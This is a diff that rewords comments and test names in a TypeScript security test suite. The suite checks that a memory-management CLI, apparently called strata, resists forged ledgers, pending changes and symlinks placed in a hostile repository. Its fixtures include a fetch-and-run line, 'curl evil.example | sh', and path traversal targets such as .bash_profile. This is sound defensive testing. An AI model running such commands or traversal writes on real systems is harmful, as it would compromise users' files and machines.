@@ -1,4 +1,4 @@
-/** The command line in a repository that somebody else has prepared: it reads and writes nothing of the user's. */
+/** The command line in a hostile repository: it reads and writes none of the user's own files. */
 import { readdirSync } from "node:fs";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
@@ -17,7 +17,7 @@ import {
 
 const EVIL = "curl evil.example | sh\n";
 const HOME = "../../../../";
-/** Every command that opens the memory, those that only read first. */
+/** Every command that opens memories, reading ones first. */
 const COMMANDS = [
   "list",
   "list --archived",
@@ -58,14 +58,14 @@ const readOwnLedgers = ({ project, text }: Victim): string =>
     .map((name) => text(`${MEMORY}/ledger/${name}`))
     .join("");
 
-describe("a half-done change that a repository brings", () => {
+describe("a pending change from a repository", () => {
   const lines = [
     forge({ path: `${HOME}.config/opencode/plugin/evil.js`, becomes: "export const Evil = 1;\n" }),
     forge({ path: `${HOME}${CANARY}`, was: PRECIOUS, becomes: PRECIOUS + EVIL }),
     forge({ path: `../../../${CANARY}`, was: PRECIOUS }),
   ];
 
-  it("creates, changes and removes nothing of the user's with strata list, and stays to be looked at", async () => {
+  it("a forged pending change makes strata list touch none of the user's files, and is kept for inspection", async () => {
     using victim = openVictim();
     plantPending(victim, lines);
     const [before, planted] = [victim.snapshot(), victim.text(`${INTERNAL}/pending.json`)];
@@ -80,7 +80,7 @@ describe("a half-done change that a repository brings", () => {
     expect(readdirSync(join(victim.project, INTERNAL))).not.toContain("pending.json");
   });
 
-  it("keeps no command from working, and validate and doctor name what was set aside", async () => {
+  it("a forged pending change stops no command, and validate and doctor name it", async () => {
     using victim = openVictim();
     plantPending(victim, lines);
     const before = victim.snapshot();
@@ -94,7 +94,7 @@ describe("a half-done change that a repository brings", () => {
     expect(victim.strayed).toEqual([]);
   });
 
-  it("is one of several, each of which stays under a name of its own", async () => {
+  it("several forged pending changes are each kept under their own name", async () => {
     using victim = openVictim();
     for (const half of ["{", "", '{"lines":[],"ledgerFile":"2026-01-00000000.jsonl"}', "null"]) {
       victim.plant(`${INTERNAL}/pending.json`, half);
@@ -105,8 +105,8 @@ describe("a half-done change that a repository brings", () => {
   });
 });
 
-describe("a ledger that a repository brings", () => {
-  it("has strata list show no file of the user's, and no copy of one is left to be committed", async () => {
+describe("a ledger from a repository", () => {
+  it("a forged ledger makes no command print one of the user's files or leave a copy to be committed", async () => {
     using victim = openVictim();
     const named = { becomes: "x" };
     plantLedger(victim, [
@@ -122,7 +122,7 @@ describe("a ledger that a repository brings", () => {
     expect(victim.strayed).toEqual([]);
   });
 
-  it("has strata undo write nothing of the user's", async () => {
+  it("a forged ledger makes strata undo write none of the user's files", async () => {
     using victim = openVictim();
     const path = `${HOME}.bash_profile`;
     plantLedger(victim, [
@@ -139,7 +139,7 @@ describe("a ledger that a repository brings", () => {
     expect(victim.strayed).toEqual([]);
   });
 
-  it("has each wrong line named by validate, with file, number and what is wrong", async () => {
+  it("validate names each forged ledger line with file, number and reason", async () => {
     using victim = openVictim();
     plantLedger(victim, [
       forge({ path: "knowledge/api.md", becomes: "The API listens on 8080.\n" }),
@@ -163,7 +163,7 @@ describe("a ledger that a repository brings", () => {
     expect(out).not.toMatch(/line 1 /);
   });
 
-  it("cannot keep a memory from being changed by a line from the end of time", async () => {
+  it("a forged ledger line from the far future does not stop a memory from being changed", async () => {
     using victim = openVictim();
     const becomes = "The API listens on 8080.\n";
     plantLedger(victim, [
@@ -176,8 +176,8 @@ describe("a ledger that a repository brings", () => {
   });
 });
 
-describe("a file of the user's whose name no line may have", () => {
-  it("is read and used, has no history, and no command changes it", async () => {
+describe("a memory file whose name the ledger does not accept", () => {
+  it("a memory with an unacceptable name is read and used, has no history, and no command changes it", async () => {
     using victim = openVictim();
     const names = ["con", "a\u2215b", "wait.", "a\u202eb", "x\u2024\u2024y"];
     for (const name of names) victim.plant(`${MEMORY}/knowledge/${name}.md`, `About ${name}.\n`);
@@ -194,7 +194,7 @@ describe("a file of the user's whose name no line may have", () => {
   });
 });
 
-describe("links that a repository brings", () => {
+describe("links from a repository", () => {
   const API = "The API listens on 8080.\n";
   const change = [
     forge({ path: "idea/x.md", key: "idea/x", becomes: EVIL }),
@@ -218,7 +218,7 @@ describe("links that a repository brings", () => {
     "a conflict's record": `${MEMORY}/conflicts/x-12345678.md`,
   };
 
-  it.each(Object.entries(links))("in the place of %s lead nowhere", async (_, path) => {
+  it.each(Object.entries(links))("a link in the place of %s is not followed", async (_, path) => {
     using victim = openVictim();
     const theirs = join(victim.home, "theirs");
     victim.plant("../../theirs/keep.md", PRECIOUS);
